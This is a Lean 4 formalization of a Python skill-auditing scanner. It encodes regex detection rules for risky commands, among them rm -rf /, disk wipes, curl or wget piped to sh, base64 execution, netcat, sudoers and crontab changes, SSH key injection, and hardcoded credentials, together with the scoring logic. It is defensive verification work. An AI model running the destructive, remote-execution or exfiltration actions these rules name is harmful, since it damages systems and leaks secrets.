import Mathlib

/-!
Verification of the `skill_auditor` package of this repository.

The Python sources under `skills-samples/skill_auditor/` are shallowly
embedded below: file contents are lists of characters, compiled regular
patterns become boolean matcher functions over a character list
(translated rule by rule from the regex source text, quoted in comments),
Python `int` scores become `Nat` (all weights are nonnegative and small,
so `int(w * 0.5)` is exactly `w / 2` on `Nat`), and the CLI driver becomes
a pure function from its observable inputs to an exit code and an
optional structured report.
-/

namespace SkillAuditor

/-! ## Basic character and string helpers -/

/-- ASCII whitespace, the characters Python `\s` matches on the inputs
considered here (space, tab, newline, carriage return, vertical tab,
form feed). -/
def isWs (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = Char.ofNat 11 || c = Char.ofNat 12

/-- Python `\w` word characters (ASCII part): letters, digits, underscore. -/
def isWordCh (c : Char) : Bool :=
  ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') || c = '_'

def isAsciiAlpha (c : Char) : Bool :=
  ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z')

def isAsciiDigit (c : Char) : Bool :=
  '0' ≤ c && c ≤ '9'

def isAsciiLower (c : Char) : Bool :=
  'a' ≤ c && c ≤ 'z'

def isAsciiUpper (c : Char) : Bool :=
  'A' ≤ c && c ≤ 'Z'

def isAsciiAlnum (c : Char) : Bool :=
  isAsciiAlpha c || isAsciiDigit c

/-- ASCII lower-casing of one character. -/
def toLowerCh (c : Char) : Char :=
  if isAsciiUpper c then Char.ofNat (c.toNat + 32) else c

def lowerList (cs : List Char) : List Char := cs.map toLowerCh

/-- The apostrophe character (codepoint 39). -/
def aposCh : Char := Char.ofNat 39

/-- The backquote character (codepoint 96). -/
def bquoteCh : Char := Char.ofNat 96

/-- Split a character list at every occurrence of `sep`, keeping empty
pieces, exactly like Python `str.split(sep)`: the result always has one
more piece than there are separators. -/
def splitOnCh (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: rest =>
    let r := splitOnCh sep rest
    if c = sep then [] :: r
    else
      match r with
      | [] => [[c]]
      | l :: ls => (c :: l) :: ls

/-- Remove the characters satisfying `p` from both ends, like Python
`str.strip` with a character set. -/
def stripBoth (p : Char → Bool) (cs : List Char) : List Char :=
  ((cs.dropWhile p).reverse.dropWhile p).reverse

/-- Python `str.strip()` (whitespace from both ends). -/
def stripWs (cs : List Char) : List Char := stripBoth isWs cs

def isPfxOf : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a = b && isPfxOf as bs

/-- Python `str.endswith(s)`. -/
def isSfxOf (s cs : List Char) : Bool := isPfxOf s.reverse cs.reverse

/-! ## A small regular-pattern engine

Each compiled Python pattern of `detectors/patterns.py` is embedded as a
value of `RE` below; `reMatch` is a backtracking matcher in continuation
style.  The rules are only ever consulted through
`re.Pattern.search(line)` used as a boolean, so the engine decides bare
matchability (a disjunction over all backtracking alternatives), for
which greedy/lazy distinctions are irrelevant.  The `fuel` argument
bounds the recursion depth; `reSearch` supplies fuel that is ample for
every pattern in the catalog on any line (each starred subpattern of the
catalog consumes at least one character per iteration). -/

inductive RE where
  | eps : RE
  | pred : (Char → Bool) → RE
  | seq : RE → RE → RE
  | alt : RE → RE → RE
  | star : RE → RE
  | eoi : RE

def reOpt (r : RE) : RE := .alt r .eps

def rePlus (r : RE) : RE := .seq r (.star r)

def reCh (c : Char) : RE := .pred (· = c)

def reStr (s : String) : RE :=
  s.data.foldr (fun c acc => .seq (reCh c) acc) .eps

/-- `{n}` repetition. -/
def reN : Nat → RE → RE
  | 0, _ => .eps
  | n + 1, r => .seq r (reN n r)

def reAlt3 (a b c : RE) : RE := .alt a (.alt b c)

def reAlt4 (a b c d : RE) : RE := .alt a (.alt b (.alt c d))

def reWs : RE := .pred isWs

def reWsStar : RE := .star reWs

def reWsPlus : RE := rePlus reWs

/-- Any character; lines are newline-free so this is Python `.`. -/
def reAny : RE := .pred (fun c => c ≠ '\n')

def reMatch : Nat → RE → List Char → (List Char → Bool) → Bool
  | 0, _, _, _ => false
  | _ + 1, .eps, cs, k => k cs
  | _ + 1, .pred _, [], _ => false
  | _ + 1, .pred p, c :: cs, k => p c && k cs
  | fuel + 1, .seq a b, cs, k =>
    reMatch fuel a cs (fun cs2 => reMatch fuel b cs2 k)
  | fuel + 1, .alt a b, cs, k =>
    reMatch fuel a cs k || reMatch fuel b cs k
  | fuel + 1, .star a, cs, k =>
    k cs || reMatch fuel a cs (fun cs2 => reMatch fuel (.star a) cs2 k)
  | _ + 1, .eoi, cs, k => cs.isEmpty && k cs

/-- Does `r` match a prefix of `cs`? -/
def reMatchAt (r : RE) (cs : List Char) : Bool :=
  reMatch ((cs.length + 2) * 64) r cs (fun _ => true)

def boundaryOk (bdry : Bool) : Option Char → Bool
  | none => true
  | some c => !bdry || !isWordCh c

/-- `re.Pattern.search` as a boolean: try every start position from the
left.  When `bdry` is set the pattern begins with `\b` followed by a word
character, so a match position is admissible only when the preceding
character (if any) is not a word character. -/
def reSearchFrom (r : RE) (bdry : Bool) : Option Char → List Char → Bool
  | prev, [] => boundaryOk bdry prev && reMatchAt r []
  | prev, c :: rest =>
    (boundaryOk bdry prev && reMatchAt r (c :: rest)) || reSearchFrom r bdry (some c) rest

def reSearch (r : RE) (bdry : Bool) (cs : List Char) : Bool :=
  reSearchFrom r bdry none cs

/-- Search with `re.IGNORECASE`: the patterns below are written with
lower-case literals and the line is lower-cased first. -/
def reSearchCI (r : RE) (bdry : Bool) (cs : List Char) : Bool :=
  reSearch r bdry (lowerList cs)

/-! ## detectors/patterns.py -/

/-- Severity levels (`class Severity(Enum)`). -/
inductive Severity where
  | LOW | MEDIUM | HIGH | CRITICAL
deriving DecidableEq

/-- The `.value` of each `Severity` member. -/
def Severity.value : Severity → String
  | .LOW => "low"
  | .MEDIUM => "medium"
  | .HIGH => "high"
  | .CRITICAL => "critical"

/-- Risk categories (`class Category(Enum)`); the enum values are the
Chinese strings of the source. -/
inductive Category where
  | DESTRUCTIVE | REMOTE_EXEC | CMD_INJECTION | NETWORK | PRIVILEGE | SECRETS | PERSISTENCE
deriving DecidableEq

/-- The `.value` of each `Category` member, verbatim from the source. -/
def Category.value : Category → String
  | .DESTRUCTIVE => "破坏性操作"
  | .REMOTE_EXEC => "远程执行"
  | .CMD_INJECTION => "命令注入"
  | .NETWORK => "网络外传"
  | .PRIVILEGE => "权限提升"
  | .SECRETS => "敏感泄露"
  | .PERSISTENCE => "持久化"

/-- `@dataclass PatternRule`; the compiled `pattern` field is embedded as
a boolean matcher function over one line of text. -/
structure PatternRule where
  id : String
  name : String
  pattern : List Char → Bool
  severity : Severity
  category : Category
  weight : Nat
  description : String
  hard_trigger : Bool := false

/-- `rm\s+(-[a-zA-Z]*)*\s*-r[a-zA-Z]*\s+(-[a-zA-Z]*\s+)*[/]($|\s|;|\|)` with re.I -/
def reRmRfRoot : RE :=
  .seq (reStr "rm") (.seq reWsPlus (.seq (.star (.seq (reCh '-') (.star (.pred isAsciiAlpha))))
    (.seq reWsStar (.seq (reCh '-') (.seq (reCh 'r') (.seq (.star (.pred isAsciiAlpha))
    (.seq reWsPlus (.seq (.star (.seq (reCh '-') (.seq (.star (.pred isAsciiAlpha)) reWsPlus)))
    (.seq (reCh '/') (reAlt4 .eoi reWs (reCh ';') (reCh '|')))))))))))

/-- `rm\s+(-[a-zA-Z]*)*\s*-r[a-zA-Z]*\s+(-[a-zA-Z]*\s+)*(~|\$HOME)` with re.I -/
def reRmRfHome : RE :=
  .seq (reStr "rm") (.seq reWsPlus (.seq (.star (.seq (reCh '-') (.star (.pred isAsciiAlpha))))
    (.seq reWsStar (.seq (reCh '-') (.seq (reCh 'r') (.seq (.star (.pred isAsciiAlpha))
    (.seq reWsPlus (.seq (.star (.seq (reCh '-') (.seq (.star (.pred isAsciiAlpha)) reWsPlus)))
    (.alt (reCh '~') (reStr "$home"))))))))))

/-- `dd\s+.*of=/dev/(sd[a-z]|nvme|hd[a-z]|vd[a-z])` with re.I -/
def reDdWipe : RE :=
  .seq (reStr "dd") (.seq reWsPlus (.seq (.star reAny) (.seq (reStr "of=/dev/")
    (reAlt4 (.seq (reStr "sd") (.pred isAsciiLower)) (reStr "nvme")
      (.seq (reStr "hd") (.pred isAsciiLower)) (.seq (reStr "vd") (.pred isAsciiLower))))))

/-- `mkfs(\.[a-z0-9]+)?\s+/dev/` with re.I -/
def reMkfs : RE :=
  .seq (reStr "mkfs") (.seq (reOpt (.seq (reCh '.') (rePlus (.pred (fun c => isAsciiLower c || isAsciiDigit c)))))
    (.seq reWsPlus (reStr "/dev/")))

/-- `curl\s+[^|]*\|\s*(ba)?sh` with re.I -/
def reCurlPipeSh : RE :=
  .seq (reStr "curl") (.seq reWsPlus (.seq (.star (.pred (· ≠ '|'))) (.seq (reCh '|')
    (.seq reWsStar (.seq (reOpt (reStr "ba")) (reStr "sh"))))))

/-- `wget\s+[^|]*\|\s*(ba)?sh` with re.I -/
def reWgetPipeSh : RE :=
  .seq (reStr "wget") (.seq reWsPlus (.seq (.star (.pred (· ≠ '|'))) (.seq (reCh '|')
    (.seq reWsStar (.seq (reOpt (reStr "ba")) (reStr "sh"))))))

/-- `base64\s+(-d|--decode)[^|]*\|\s*(ba)?sh` with re.I -/
def reBase64Exec : RE :=
  .seq (reStr "base64") (.seq reWsPlus (.seq (.alt (reStr "-d") (reStr "--decode"))
    (.seq (.star (.pred (· ≠ '|'))) (.seq (reCh '|') (.seq reWsStar
      (.seq (reOpt (reStr "ba")) (reStr "sh")))))))

/-- `\beval\s*\(` (case sensitive) -/
def rePyEval : RE := .seq (reStr "eval") (.seq reWsStar (reCh '('))

/-- `\bexec\s*\(` (case sensitive) -/
def rePyExec : RE := .seq (reStr "exec") (.seq reWsStar (reCh '('))

/-- `os\.system\s*\(` (case sensitive) -/
def reOsSystem : RE := .seq (reStr "os.system") (.seq reWsStar (reCh '('))

/-- `subprocess\.(run|call|Popen)\s*\([^)]*shell\s*=\s*True` (per line, so re.DOTALL is moot) -/
def reSubprocessShell : RE :=
  .seq (reStr "subprocess.") (.seq (reAlt3 (reStr "run") (reStr "call") (reStr "Popen"))
    (.seq reWsStar (.seq (reCh '(') (.seq (.star (.pred (· ≠ ')')))
      (.seq (reStr "shell") (.seq reWsStar (.seq (reCh '=') (.seq reWsStar (reStr "True")))))))))

/-- `curl\s+[^;|]*-X\s*POST` with re.I -/
def reCurlPost : RE :=
  .seq (reStr "curl") (.seq reWsPlus (.seq (.star (.pred (fun c => c ≠ ';' && c ≠ '|')))
    (.seq (reStr "-x") (.seq reWsStar (reStr "post")))))

/-- `\bnc\s+(-[a-z]*\s+)*[a-zA-Z0-9.-]+\s+\d+` with re.I -/
def reNetcat : RE :=
  .seq (reStr "nc") (.seq reWsPlus (.seq (.star (.seq (reCh '-') (.seq (.star (.pred isAsciiLower)) reWsPlus)))
    (.seq (rePlus (.pred (fun c => isAsciiAlnum c || c = '.' || c = '-')))
      (.seq reWsPlus (rePlus (.pred isAsciiDigit))))))

/-- `urllib\.request\.urlopen\s*\(` (case sensitive) -/
def rePyUrllib : RE := .seq (reStr "urllib.request.urlopen") (.seq reWsStar (reCh '('))

/-- `\bsudo\s+` with re.I -/
def reSudo : RE := .seq (reStr "sudo") reWsPlus

/-- `chmod\s+(-[a-zA-Z]*\s+)*7[0-7]{2}` (case sensitive) -/
def reChmod777 : RE :=
  .seq (reStr "chmod") (.seq reWsPlus (.seq (.star (.seq (reCh '-') (.seq (.star (.pred isAsciiAlpha)) reWsPlus)))
    (.seq (reCh '7') (reN 2 (.pred (fun c => '0' ≤ c && c ≤ '7'))))))

/-- `(/etc/sudoers|visudo|NOPASSWD)` with re.I -/
def reSudoers : RE := reAlt3 (reStr "/etc/sudoers") (reStr "visudo") (reStr "nopasswd")

/-- `(crontab\s+-|/etc/cron)` with re.I -/
def reCrontab : RE :=
  .alt (.seq (reStr "crontab") (.seq reWsPlus (reCh '-'))) (reStr "/etc/cron")

/-- `(>>|>)\s*~?/?(\.ssh/authorized_keys|\.ssh/id_)` with re.I -/
def reSshKeys : RE :=
  .seq (.alt (reStr ">>") (reStr ">")) (.seq reWsStar (.seq (reOpt (reCh '~')) (.seq (reOpt (reCh '/'))
    (.alt (reStr ".ssh/authorized_keys") (reStr ".ssh/id_")))))

/-- `-----BEGIN\s+(RSA|OPENSSH|EC|DSA)?\s*PRIVATE KEY-----` with re.I -/
def rePrivateKey : RE :=
  .seq (reStr "-----begin") (.seq reWsPlus (.seq (reOpt (reAlt4 (reStr "rsa") (reStr "openssh") (reStr "ec") (reStr "dsa")))
    (.seq reWsStar (reStr "private key-----"))))

/-- `(api[_-]?key|apikey|api_secret)\s*[=:]\s*["\x27][a-zA-Z0-9_-]{16,}["\x27]` with re.I -/
def reApiKey : RE :=
  .seq (reAlt3 (.seq (reStr "api") (.seq (reOpt (.pred (fun c => c = '_' || c = '-'))) (reStr "key")))
      (reStr "apikey") (reStr "api_secret"))
    (.seq reWsStar (.seq (.pred (fun c => c = '=' || c = ':')) (.seq reWsStar
      (.seq (.pred (fun c => c = '"' || c = aposCh))
        (.seq (reN 16 (.pred (fun c => isAsciiAlnum c || c = '_' || c = '-')))
          (.seq (.star (.pred (fun c => isAsciiAlnum c || c = '_' || c = '-')))
            (.pred (fun c => c = '"' || c = aposCh))))))))

/-- `(password|passwd|pwd)\s*[=:]\s*["\x27][^"\x27]{4,}["\x27]` with re.I -/
def rePassword : RE :=
  .seq (reAlt3 (reStr "password") (reStr "passwd") (reStr "pwd"))
    (.seq reWsStar (.seq (.pred (fun c => c = '=' || c = ':')) (.seq reWsStar
      (.seq (.pred (fun c => c = '"' || c = aposCh))
        (.seq (reN 4 (.pred (fun c => c ≠ '"' && c ≠ aposCh)))
          (.seq (.star (.pred (fun c => c ≠ '"' && c ≠ aposCh)))
            (.pred (fun c => c = '"' || c = aposCh))))))))

/-- `(AKIA|ASIA)[A-Z0-9]{16}` (case sensitive) -/
def reAwsKey : RE :=
  .seq (.alt (reStr "AKIA") (reStr "ASIA")) (reN 16 (.pred (fun c => isAsciiUpper c || isAsciiDigit c)))

/-- `ghp_[a-zA-Z0-9]{36}` (case sensitive) -/
def reGithubToken : RE := .seq (reStr "ghp_") (reN 36 (.pred isAsciiAlnum))

/-- `PATTERN_RULES`, field for field from the source. -/
def PATTERN_RULES : List PatternRule := [
  { id := "RM_RF_ROOT", name := "删除根目录", pattern := reSearchCI reRmRfRoot false,
    severity := .CRITICAL, category := .DESTRUCTIVE, weight := 100,
    description := "rm -rf / 删除根目录", hard_trigger := true },
  { id := "RM_RF_HOME", name := "删除用户目录", pattern := reSearchCI reRmRfHome false,
    severity := .CRITICAL, category := .DESTRUCTIVE, weight := 90,
    description := "rm -rf ~ 删除用户目录", hard_trigger := true },
  { id := "DD_WIPE", name := "磁盘擦除", pattern := reSearchCI reDdWipe false,
    severity := .CRITICAL, category := .DESTRUCTIVE, weight := 100,
    description := "dd 写入磁盘设备", hard_trigger := true },
  { id := "MKFS_FORMAT", name := "格式化磁盘", pattern := reSearchCI reMkfs false,
    severity := .CRITICAL, category := .DESTRUCTIVE, weight := 100,
    description := "mkfs 格式化命令", hard_trigger := true },
  { id := "CURL_PIPE_SH", name := "Curl管道执行", pattern := reSearchCI reCurlPipeSh false,
    severity := .CRITICAL, category := .REMOTE_EXEC, weight := 90,
    description := "curl | sh 远程执行", hard_trigger := true },
  { id := "WGET_PIPE_SH", name := "Wget管道执行", pattern := reSearchCI reWgetPipeSh false,
    severity := .CRITICAL, category := .REMOTE_EXEC, weight := 90,
    description := "wget | sh 远程执行", hard_trigger := true },
  { id := "BASE64_EXEC", name := "Base64解码执行", pattern := reSearchCI reBase64Exec false,
    severity := .CRITICAL, category := .REMOTE_EXEC, weight := 85,
    description := "base64 解码后执行", hard_trigger := true },
  { id := "PY_EVAL", name := "Python eval", pattern := reSearch rePyEval true,
    severity := .HIGH, category := .CMD_INJECTION, weight := 70,
    description := "eval() 动态执行" },
  { id := "PY_EXEC", name := "Python exec", pattern := reSearch rePyExec true,
    severity := .HIGH, category := .CMD_INJECTION, weight := 70,
    description := "exec() 动态执行" },
  { id := "OS_SYSTEM", name := "os.system", pattern := reSearch reOsSystem false,
    severity := .HIGH, category := .CMD_INJECTION, weight := 65,
    description := "os.system() Shell执行" },
  { id := "SUBPROCESS_SHELL", name := "subprocess shell=True", pattern := reSearch reSubprocessShell false,
    severity := .HIGH, category := .CMD_INJECTION, weight := 65,
    description := "subprocess shell=True" },
  { id := "CURL_POST", name := "Curl POST", pattern := reSearchCI reCurlPost false,
    severity := .MEDIUM, category := .NETWORK, weight := 40,
    description := "curl POST 请求" },
  { id := "NETCAT", name := "Netcat连接", pattern := reSearchCI reNetcat true,
    severity := .HIGH, category := .NETWORK, weight := 60,
    description := "netcat 网络连接" },
  { id := "PY_URLLIB", name := "Python urllib", pattern := reSearch rePyUrllib false,
    severity := .MEDIUM, category := .NETWORK, weight := 35,
    description := "urllib 网络请求" },
  { id := "SUDO", name := "sudo提权", pattern := reSearchCI reSudo true,
    severity := .HIGH, category := .PRIVILEGE, weight := 60,
    description := "sudo 权限提升" },
  { id := "CHMOD_777", name := "chmod 777", pattern := reSearch reChmod777 false,
    severity := .HIGH, category := .PRIVILEGE, weight := 55,
    description := "chmod 777 开放权限" },
  { id := "SUDOERS", name := "sudoers修改", pattern := reSearchCI reSudoers false,
    severity := .CRITICAL, category := .PRIVILEGE, weight := 95,
    description := "sudoers 文件修改", hard_trigger := true },
  { id := "CRONTAB", name := "Crontab持久化", pattern := reSearchCI reCrontab false,
    severity := .HIGH, category := .PERSISTENCE, weight := 65,
    description := "crontab 持久化" },
  { id := "SSH_KEYS", name := "SSH密钥注入", pattern := reSearchCI reSshKeys false,
    severity := .CRITICAL, category := .PERSISTENCE, weight := 90,
    description := "SSH 密钥写入", hard_trigger := true },
  { id := "PRIVATE_KEY", name := "私钥硬编码", pattern := reSearchCI rePrivateKey false,
    severity := .CRITICAL, category := .SECRETS, weight := 85,
    description := "硬编码私钥", hard_trigger := true },
  { id := "API_KEY", name := "API Key", pattern := reSearchCI reApiKey false,
    severity := .HIGH, category := .SECRETS, weight := 60,
    description := "硬编码 API Key" },
  { id := "PASSWORD", name := "密码硬编码", pattern := reSearchCI rePassword false,
    severity := .HIGH, category := .SECRETS, weight := 55,
    description := "硬编码密码" },
  { id := "AWS_KEY", name := "AWS密钥", pattern := reSearch reAwsKey false,
    severity := .CRITICAL, category := .SECRETS, weight := 80,
    description := "AWS Access Key" },
  { id := "GITHUB_TOKEN", name := "GitHub Token", pattern := reSearch reGithubToken false,
    severity := .CRITICAL, category := .SECRETS, weight := 80,
    description := "GitHub Token" }]

def get_all_patterns : List PatternRule := PATTERN_RULES

/-! ## scoring.py -/

/-- `class RiskLevel(Enum)`. -/
inductive RiskLevel where
  | SAFE | LOW | MEDIUM | HIGH | DANGEROUS
deriving DecidableEq

/-- The `.value` of each `RiskLevel` member. -/
def RiskLevel.value : RiskLevel → String
  | .SAFE => "safe"
  | .LOW => "low"
  | .MEDIUM => "medium"
  | .HIGH => "high"
  | .DANGEROUS => "dangerous"

/-- `RISK_THRESHOLDS` (the dict has no entry for `SAFE`). -/
def RISK_THRESHOLDS : List (RiskLevel × Nat) :=
  [(.LOW, 1), (.MEDIUM, 25), (.HIGH, 50), (.DANGEROUS, 75)]

/-- Dict lookup `RISK_THRESHOLDS[level]`; the source only ever indexes
with the four keys that are present. -/
def thresholdOf (l : RiskLevel) : Nat :=
  (RISK_THRESHOLDS.lookup l).getD 0

/-- `@dataclass Finding`.  `snippet` is kept as a character list. -/
structure Finding where
  rule_id : String
  rule_name : String
  severity : Severity
  category : Category
  file_path : String
  line_number : Nat
  snippet : List Char
  weight : Nat
  hard_trigger : Bool := false
deriving DecidableEq

/-- The `Finding(...)` constructed inside `scan_content` for one matching
line: the weight halving for non-script `.md` files (`int(weight * 0.5)`
is `weight / 2` on `Nat`) and the 100-character snippet truncation with a
three-dot ASCII suffix. -/
def mk_finding (rule : PatternRule) (file_path : String) (is_script : Bool)
    (line : List Char) (line_num : Nat) : Finding :=
  let weight := if isSfxOf ".md".data file_path.data && !is_script then rule.weight / 2 else rule.weight
  let stripped := stripWs line
  let snippet := stripped.take 100 ++ (if 100 < stripped.length then ['.', '.', '.'] else [])
  { rule_id := rule.id, rule_name := rule.name, severity := rule.severity,
    category := rule.category, file_path := file_path, line_number := line_num,
    snippet := snippet, weight := weight, hard_trigger := rule.hard_trigger }

/-- Inner loop of `scan_content`: `for line_num, line in enumerate(lines, 1)`
for one rule, appending a finding for each matching line. -/
def scanLines (rule : PatternRule) (file_path : String) (is_script : Bool) :
    Nat → List (List Char) → List Finding
  | _, [] => []
  | n, l :: ls =>
    (if rule.pattern l then [mk_finding rule file_path is_script l n] else [])
      ++ scanLines rule file_path is_script (n + 1) ls

/-- Outer loop of `scan_content`: `for rule in patterns`. -/
def scanRules (rules : List PatternRule) (file_path : String) (is_script : Bool)
    (lines : List (List Char)) : List Finding :=
  match rules with
  | [] => []
  | r :: rs => scanLines r file_path is_script 1 lines ++ scanRules rs file_path is_script lines

/-- `scan_content(content, file_path, is_script)`. -/
def scan_content (content : List Char) (file_path : String) (is_script : Bool) : List Finding :=
  scanRules get_all_patterns file_path is_script (splitOnCh '\n' content)

/-- Python `dict.get(k, 0)` on the `rule_counts` association list. -/
def dictGet : List (String × Nat) → String → Nat
  | [], _ => 0
  | (k0, v0) :: rest, k => if k0 = k then v0 else dictGet rest k

/-- Python `dict[k] = v` on the `rule_counts` association list. -/
def dictSet : List (String × Nat) → String → Nat → List (String × Nat)
  | [], k, v => [(k, v)]
  | (k0, v0) :: rest, k, v =>
    if k0 = k then (k, v) :: rest else (k0, v0) :: dictSet rest k v

/-- The `for f in findings` accumulation loop of `calculate_score`:
first occurrence of a rule id scores `int(weight * 1.0) = weight`, each
repeat scores `int(weight * 0.5) = weight / 2`. -/
def decayed_total : List Finding → List (String × Nat) → Nat → Nat
  | [], _, total => total
  | f :: rest, rule_counts, total =>
    let count := dictGet rule_counts f.rule_id + 1
    let contrib := if count = 1 then f.weight else f.weight / 2
    decayed_total rest (dictSet rule_counts f.rule_id count) (total + contrib)

/-- The threshold cascade at the end of `calculate_score`. -/
def classify (total : Nat) (has_hard_trigger : Bool) : RiskLevel :=
  if has_hard_trigger = true ∨ thresholdOf .DANGEROUS ≤ total then .DANGEROUS
  else if thresholdOf .HIGH ≤ total then .HIGH
  else if thresholdOf .MEDIUM ≤ total then .MEDIUM
  else if thresholdOf .LOW ≤ total then .LOW
  else .SAFE

/-- `calculate_score(findings) -> (total_score, risk_level, has_hard_trigger)`. -/
def calculate_score (findings : List Finding) : Nat × RiskLevel × Bool :=
  match findings with
  | [] => (0, .SAFE, false)
  | _ :: _ =>
    let has_hard_trigger := findings.any (·.hard_trigger)
    let raw := decayed_total findings [] 0
    let floored := if has_hard_trigger = true then max raw 75 else raw
    let total := min floored 100
    (total, classify total has_hard_trigger, has_hard_trigger)

/-- The file loop of `audit_skill`: findings of all files of a skill, in
file-walk order, concatenated.  A file is `(content, relative_path,
is_script)`. -/
def audit_findings : List (List Char × String × Bool) → List Finding
  | [] => []
  | (c, p, s) :: rest => scan_content c p s ++ audit_findings rest

/-! ## parsers/skill_md.py

`extract_allowed_tools` uses five regular expressions whose matched
substrings (not just matchability) drive the result, so each is embedded
as a dedicated leftmost-match function that reproduces the Python
backtracking order (greedy `\s*`, lazy `(.+?)`), as noted pattern by
pattern below. -/

/-- Consume the literal `s` case-insensitively; gives the number of
characters consumed. -/
def dropStrCI (s : String) (cs : List Char) : Option (List Char) :=
  if isPfxOf (lowerList s.data) (lowerList (cs.take s.length)) && s.length ≤ cs.length then
    some (cs.drop s.length)
  else none

/-- Consume `allowed[_-]?tools` case-insensitively (the `[_-]?` option is
unambiguous because `t` is neither `_` nor `-`). -/
def matchKeyword (cs : List Char) : Option (List Char) :=
  match dropStrCI "allowed" cs with
  | none => none
  | some r1 =>
    match r1 with
    | c :: r2 =>
      if c = '_' || c = '-' then dropStrCI "tools" r2 else dropStrCI "tools" r1
    | [] => none

/-- The tail `\s*(.+?)$` of `pattern1` (re.MULTILINE): greedy `\s*` may
cross newlines, then the lazy dot-plus must reach an end of line, which
forces it to take exactly the remainder of the current line.  When every
remaining character is whitespace, the greedy run backtracks to the last
character that is not a newline and the group captures just it. -/
def afterColonGroup (cs : List Char) : Option (List Char) :=
  let k := (cs.takeWhile isWs).length
  if k < cs.length then
    some ((cs.drop k).takeWhile (· ≠ '\n'))
  else
    match cs.reverse.dropWhile (· = '\n') with
    | [] => none
    | c :: _ => some [c]

/-- One attempt of `allowed[_-]?tools\s*:\s*(.+?)$` at the current
position (the `\s*` before `:` never backtracks because `:` is not
whitespace). -/
def pattern1At (cs : List Char) : Option (List Char) :=
  match matchKeyword cs with
  | none => none
  | some r =>
    match r.dropWhile isWs with
    | ':' :: r2 => afterColonGroup r2
    | _ => none

/-- `pattern1.search(content)`: leftmost successful position wins. -/
def pattern1Search (cs : List Char) : Option (List Char) :=
  match cs with
  | [] => none
  | c :: rest =>
    match pattern1At (c :: rest) with
    | some g => some g
    | none => pattern1Search rest

/-- `tool_pattern.findall` for `([A-Za-z_][A-Za-z0-9_]*(?:\([^)]*\))?)`:
scan left to right; at an identifier start take the identifier greedily,
then a parenthesised argument if a closing parenthesis exists (otherwise
the optional group is not taken); continue after the match. -/
def toolFindAllF : Nat → List Char → List (List Char)
  | 0, _ => []
  | _, [] => []
  | fuel + 1, c :: rest =>
    if isAsciiAlpha c || c = '_' then
      let identCs := rest.takeWhile isWordCh
      let after := rest.dropWhile isWordCh
      match after with
      | '(' :: r2 =>
        let inside := r2.takeWhile (· ≠ ')')
        match r2.dropWhile (· ≠ ')') with
        | ')' :: r4 =>
          (c :: identCs ++ '(' :: inside ++ [')']) :: toolFindAllF fuel r4
        | _ => (c :: identCs) :: toolFindAllF fuel after
      | _ => (c :: identCs) :: toolFindAllF fuel after
    else toolFindAllF fuel rest

def toolFindAll (cs : List Char) : List (List Char) :=
  toolFindAllF (cs.length + 1) cs

/-- The tail `\s*\n` after a literal (greedy `\s*` backtracks until the
next required character is a newline): gives the characters after that
newline, or `none` when no admissible newline exists. -/
def wsThenNl (cs : List Char) : Option (List Char) :=
  let k := (cs.takeWhile isWs).length
  let pre := cs.take k
  let d := (pre.reverse.takeWhile (· ≠ '\n')).length
  if d < k then some (cs.drop (k - d)) else none

/-- First occurrence split on the marker `\n---`: gives the characters
before it (the lazy DOTALL group of `yaml_pattern`). -/
def splitOnYamlEnd : Nat → List Char → Option (List Char)
  | 0, _ => none
  | _, [] => none
  | fuel + 1, c :: rest =>
    if isPfxOf "\n---".data (c :: rest) then some []
    else (splitOnYamlEnd fuel rest).map (c :: ·)

/-- `yaml_pattern.search` for `^---\s*\n(.*?)\n---` (re.DOTALL, anchored
at the start of the content): the front-matter body, if present. -/
def yamlFrontMatter (cs : List Char) : Option (List Char) :=
  match dropStrCI "---" cs with
  | none => none
  | some r =>
    match wsThenNl r with
    | none => none
    | some body => splitOnYamlEnd (body.length + 1) body

/-- One attempt of `allowed[_-]?tools\s*:\s*\[([^\]]+)\]` at the current
position (neither `\s*` backtracks: `:` and `[` are not whitespace). -/
def toolsLineAt (cs : List Char) : Option (List Char) :=
  match matchKeyword cs with
  | none => none
  | some r =>
    match r.dropWhile isWs with
    | ':' :: r2 =>
      match r2.dropWhile isWs with
      | '[' :: r3 =>
        let inside := r3.takeWhile (· ≠ ']')
        match r3.dropWhile (· ≠ ']') with
        | ']' :: _ => if inside.isEmpty then none else some inside
        | _ => none
      | _ => none
    | _ => none

def toolsLineSearch (cs : List Char) : Option (List Char) :=
  match cs with
  | [] => none
  | c :: rest =>
    match toolsLineAt (c :: rest) with
    | some g => some g
    | none => toolsLineSearch rest

/-- The tail `\s+(.+)` of a bullet item (greedy whitespace, at least one
character, then the lazy-free `.+` takes the rest of the line): gives
`(group, rest after the group)`. -/
def wsPlusLine (cs : List Char) : Option (List Char × List Char) :=
  let k := (cs.takeWhile isWs).length
  if k = 0 then none
  else if k < cs.length then
    let tail := cs.drop k
    some (tail.takeWhile (· ≠ '\n'), tail.dropWhile (· ≠ '\n'))
  else
    let d := (cs.reverse.takeWhile (· = '\n')).length
    if d < cs.length && 1 ≤ cs.length - d - 1 then
      some ((cs.drop (cs.length - d - 1)).take 1, cs.drop (cs.length - d))
    else none

/-- One bullet `mark\s+.+\n?` where `mark` selects the bullet character;
gives the remainder after the optional newline. -/
def parseOneBullet (mark : Char → Bool) (cs : List Char) : Option (List Char) :=
  match cs with
  | [] => none
  | c :: rest =>
    if mark c then
      match wsPlusLine rest with
      | none => none
      | some (_, after) =>
        match after with
        | '\n' :: r2 => some r2
        | _ => some after
    else none

/-- Greedy `(?:mark\s+.+\n?)+`: gives the remainder after as many
bullets as parse; the caller checks at least one was consumed. -/
def bulletBlockEnd (mark : Char → Bool) : Nat → List Char → List Char
  | 0, cs => cs
  | fuel + 1, cs =>
    match parseOneBullet mark cs with
    | none => cs
    | some rest => bulletBlockEnd mark fuel rest

/-- `re.findall` of `mark\s+(.+)` over a bullet block: captured items in
order. -/
def bulletItems (mark : Char → Bool) : Nat → List Char → List (List Char)
  | 0, _ => []
  | _, [] => []
  | fuel + 1, c :: rest =>
    if mark c then
      match wsPlusLine rest with
      | some (g, after) => g :: bulletItems mark fuel after
      | none => bulletItems mark fuel rest
    else bulletItems mark fuel rest

/-- One indented bullet `\s+-\s+.+\n?` (at least one whitespace, a dash,
more whitespace, a nonempty line rest, an optional newline); gives the
remainder. -/
